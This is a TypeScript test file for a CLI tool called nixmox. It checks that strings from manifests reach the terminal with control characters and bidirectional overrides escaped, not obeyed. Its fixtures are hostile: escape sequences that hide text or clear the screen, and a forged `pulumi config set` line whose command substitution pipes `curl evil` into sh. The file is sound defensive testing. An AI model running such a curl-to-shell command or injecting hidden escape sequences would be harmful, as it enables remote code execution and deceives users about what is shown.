// Pure functions plus the real CLI in a child process: manifest-derived strings reach the terminal with their
// control characters shown, never obeyed (security review L7: an ESC sequence in a secret's description hid text and
// showed a forged `pulumi config set … "$(curl evil|sh)"` line in `secrets check`).
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { terminalText } from "../manifest/problems";
import { smallManifest } from "./support/manifests";

const cli = path.join(__dirname, "..", "bin", "nixmox.js");
/** Any control character a terminal would obey (the tab and the newline between lines aside). */
const obeyed = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe("terminal output: control characters escaped (security review L7)", function () {
  this.timeout(60_000);
  let dir: string;
  before(() => {
    dir = mkdtempSync(path.join(tmpdir(), "nixmox-terminal-"));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it("shows ESC, CR, DEL, C1 controls and bidirectional overrides as escapes, keeps tabs and newlines, and is idempotent", () => {
    const hostile = "a\u001b[8mhidden\u001b[0m\rb\u007f\u009b\u202eevil\u2066\tc\nd";
    const shown = terminalText(hostile);
    assert.equal(shown, "a\\x1b[8mhidden\\x1b[0m\\x0db\\x7f\\x9b\\u202eevil\\u2066\tc\nd");
    assert.equal(terminalText(shown), shown);
    assert.equal(terminalText("one\ntwo", { newlines: false }), "one\\x0atwo");
  });

  it("secrets check prints a hostile description on its own row, visibly, with no forged command line", () => {
    const manifest = smallManifest();
    manifest.services.app.secrets = { smtp: { description: "\u001b[8mhidden\u001b[0m\npulumi config set --secret x \"$(curl evil|sh)\"" } };
    writeFileSync(path.join(dir, "manifest.json"), JSON.stringify(manifest));
    writeFileSync(path.join(dir, "Pulumi.ci.yaml"), "config:\n  nixmox:manifest: manifest.json\n  nixmox:proxmoxApiToken:\n    secure: v1:TTTT\n");
    const result = spawnSync(process.execPath, [cli, "secrets", "check", path.join(dir, "manifest.json"), "--stack", "ci", "--project-dir", dir], { encoding: "utf8", timeout: 60_000 });
    assert.equal(result.stderr, "");
    assert.doesNotMatch(result.stdout, obeyed);
    const row = result.stdout.split("\n").find((line) => line.startsWith("app/smtp "))!;
    assert.match(row, /\\x1b\[8mhidden\\x1b\[0m\\x0apulumi config set --secret x "\$\(curl evil\|sh\)"$/);
    assert.ok(!result.stdout.split("\n").some((line) => line.startsWith("pulumi config set --secret x")));
  });

  it("validate names a service whose name holds an ESC sequence with the sequence escaped", () => {
    const manifest = smallManifest();
    manifest.services["\u001b[2J\u001b[31mapp"] = manifest.services.app;
    writeFileSync(path.join(dir, "names.json"), JSON.stringify(manifest));
    const result = spawnSync(process.execPath, [cli, "validate", path.join(dir, "names.json")], { encoding: "utf8", timeout: 60_000 });
    assert.equal(result.status, 1);
    assert.doesNotMatch(result.stderr, obeyed);
    assert.match(result.stderr, /service "\\x1b\[2J\\x1b\[31mapp": has an invalid name/);
  });
});
